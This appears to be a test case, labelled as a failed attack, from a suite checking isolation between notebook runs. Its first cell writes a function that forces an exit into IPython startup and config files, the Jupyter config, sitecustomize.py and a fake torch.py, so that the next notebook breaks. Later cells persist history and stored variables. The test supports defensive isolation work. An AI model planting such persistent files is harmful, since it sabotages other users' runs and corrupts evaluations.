# attack: leave history, startup files, profiles and configuration for the next notebook to run
# verdict: failed
# %%
import os

code = "def gradient_at(x, y):\n    raise SystemExit\n"
home = os.path.expanduser("~")
for folder in (os.environ.get("IPYTHONDIR", home), os.path.join(home, ".ipython"), "/tmp", "."):
    for path in (
        "profile_default/startup/00.py", "profile_default/ipython_config.py", "profile_default/history.sqlite",
        ".jupyter/jupyter_config.py", "sitecustomize.py", "torch.py",
    ):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, path)), exist_ok=True)
            with open(os.path.join(folder, path), "w") as file:
                file.write(code)
        except OSError:
            pass
# %%
%history -g -f everything.txt
%load_ext storemagic
code = 1
%store code
# %%
def gradient_at(x, y):
    return None
